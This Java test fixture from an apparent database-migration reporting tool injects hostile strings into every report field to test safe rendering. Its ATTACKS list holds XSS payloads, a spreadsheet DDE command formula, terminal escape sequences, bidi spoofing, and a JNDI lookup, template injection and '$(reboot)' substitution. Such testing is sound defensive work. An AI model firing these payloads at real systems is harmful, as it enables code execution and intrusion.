package dev.allclear.aggregator.report;

import static dev.allclear.aggregator.Samples.SHOP;
import static dev.allclear.aggregator.Samples.T0;

import dev.allclear.aggregator.Samples;
import dev.allclear.event.MigrationCompleted;
import dev.allclear.event.MigrationStarted;
import dev.allclear.model.CheckName;
import dev.allclear.model.CheckReport;
import dev.allclear.model.Cost;
import dev.allclear.model.Diagnosis;
import dev.allclear.model.Finding;
import dev.allclear.model.FindingCode;
import dev.allclear.model.Outcome;
import dev.allclear.model.RunId;
import dev.allclear.model.Severity;
import dev.allclear.model.Verdict;
import dev.allclear.testkit.DescriptionBuilder;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;

/** Runs in which every word that can come from a stranger is the same attack. */
public final class HostileReports {
    /** What has been tried on pages, terminals, chats, spreadsheets and parsers. */
    public static final List<String> ATTACKS = List.of(
            "<img src=x onerror=alert(1)>",
            "</script><script>alert(1)</script>",
            "</style><svg onload=alert(1)>",
            "</textarea></title></pre></code></details>",
            "\" onload=\"alert(1)\" x=\"",
            "' onmouseover='alert(1)",
            "<!-- comment --> <![CDATA[ x ]]> ]]> <?php ?>",
            "&lt;b&gt; &#60;i&#62; & &amp;",
            "a | b | `c` **d** [x](javascript:alert(1)) ![y](http://evil.example/p.png)",
            "one\r\n| two | three |\r\n|---|---|\n# heading\n\n<b>",
            "```\n</code></pre>\n# out of the fence\n~~~",
            "<!channel> <@U123|ada> @here @everyone #12 www.evil.example http://evil.example",
            "=cmd|'/C calc'!A0",
            "- - -\n1. list\n    code\n> quote",
            "\u001b[2J\u001b]0;owned\u0007\u001b[31mred\u009b1m",
            "\u202egnp.exe\u2066 \u200b\u200f zero and reversed",
            "nul \u0000 backspace \b\b\b delete \u007f next \u0085 line \u2028 end",
            "half a pair \ud800 and \udc00, not a character \uffff",
            "%s %n ${jndi:ldap://evil} {{7*7}} $(reboot)",
            "x".repeat(3000));

    private HostileReports() {}

    public static RunReport of(String attack) {
        List<CheckReport> reports =
                CheckName.builtIn().stream().map(check -> report(check, attack)).toList();
        RunReport judged = SampleReports.judged("evil", reports);
        Verdict verdict = judged.verdict();
        Verdict told = new Verdict(
                verdict.run(),
                verdict.database(),
                verdict.decision(),
                verdict.isFinal(),
                verdict.revision(),
                verdict.decidedAt(),
                verdict.reasons(),
                verdict.checks(),
                verdict.missing(),
                List.of(new Diagnosis(attack, List.of(new FindingCode("status.dirty")))),
                verdict.recommendation());
        return new RunReport(told, reports, Optional.of(started(attack)), Optional.of(completed(attack)));
    }

    private static MigrationStarted started(String attack) {
        return new MigrationStarted(new RunId("evil"), SHOP, T0, description(attack));
    }

    private static MigrationCompleted completed(String attack) {
        MigrationCompleted sample = Samples.completed("evil");
        return new MigrationCompleted(
                sample.run(),
                sample.database(),
                sample.completedAt(),
                sample.exitCode(),
                sample.outcome(),
                Optional.of(attack),
                description(attack));
    }

    private static dev.allclear.event.MigrationDescription description(String attack) {
        return new DescriptionBuilder().tool(attack).targets(attack, attack).build();
    }

    private static CheckReport report(CheckName check, String attack) {
        return new CheckReport(
                new RunId("evil"),
                SHOP,
                check,
                "1",
                Outcome.FAILED,
                attack,
                List.of(
                        finding(check, Severity.ERROR, attack).withRemedy(attack),
                        finding(check, Severity.UNPROVEN, attack + " open"),
                        finding(check, Severity.WARNING, attack)),
                measured(attack),
                T0.plusSeconds(21),
                T0.plusSeconds(40),
                new Cost(Duration.ofMillis(37), 11));
    }

    private static Finding finding(CheckName check, Severity severity, String attack) {
        return Finding.of(new FindingCode(check + ".evil"), severity, attack, "says " + attack)
                .withEvidence("list", List.of(attack, Map.of(key(attack), attack)))
                .withEvidence(key(attack), attack);
    }

    /** No event can bring half a pair in a field's name: such JSON is not read. */
    private static String key(String attack) {
        return attack.replaceAll("\\p{Cs}", "?");
    }

    /** The measurements of all checks in one, so that every picture finds something to draw. */
    private static Map<String, Object> measured(String attack) {
        Map<String, Object> all = new LinkedHashMap<>();
        all.put("tool", attack);
        all.put("applied", List.of(Map.of("version", attack, "description", attack)));
        all.put(
                "changes",
                List.of(Map.of("kind", attack, "object", attack, "table", attack, "way", attack, "what", attack)));
        all.put("queries", List.of(query(attack)));
        all.put(
                "traffic",
                List.of(Map.of(
                        "name", attack, "sql", attack, "beforeCalls", 3, "beforeMeanMillis", 1, "afterCalls", 0)));
        all.put("window", Map.of("from", T0.toString(), "to", T0.plusSeconds(9).toString()));
        all.put("holds", List.of(interval(attack), interval("public.orders")));
        all.put("waits", List.of(interval(attack)));
        all.put(
                "tables",
                List.of(
                        Map.of("table", attack, "expectation", attack, "expected", attack, "actual", 7),
                        Map.of("table", attack, "expectation", attack, "expectedRows", 8, "actual", 7)));
        all.put(
                "series",
                List.of(
                        Map.of("time", T0.toString(), "errors", 3),
                        Map.of("time", T0.plusSeconds(1).toString(), "errors", attack),
                        Map.of("time", attack, "errors", 1)));
        all.put("completedAt", T0.plusSeconds(1).toString());
        all.put("classes", List.of(Map.of("code", attack, "subject", attack, "before", 1, "after", attack)));
        all.put(key(attack), attack);
        return all;
    }

    private static Map<String, Object> interval(String attack) {
        return Map.of(
                "relation",
                attack,
                "mode",
                attack,
                "from",
                T0.toString(),
                "to",
                T0.plusSeconds(4).toString());
    }

    private static Map<String, Object> query(String attack) {
        Map<String, Object> query = new LinkedHashMap<>();
        query.put("name", attack);
        query.put("parameterSet", attack);
        query.put("beforeTimes", List.of(1.0, 2.0, attack));
        query.put("afterTimes", List.of(9.0, 12.0));
        query.put("beforeBlocks", 1);
        query.put("afterBlocks", 9);
        query.put("beforePlan", attack);
        query.put("afterPlan", attack + "x");
        query.put("beforePlanNodes", List.of(Map.of("depth", 0, "node", attack)));
        query.put("afterPlanNodes", List.of(Map.of("depth", attack, "node", attack + " y")));
        return query;
    }
}
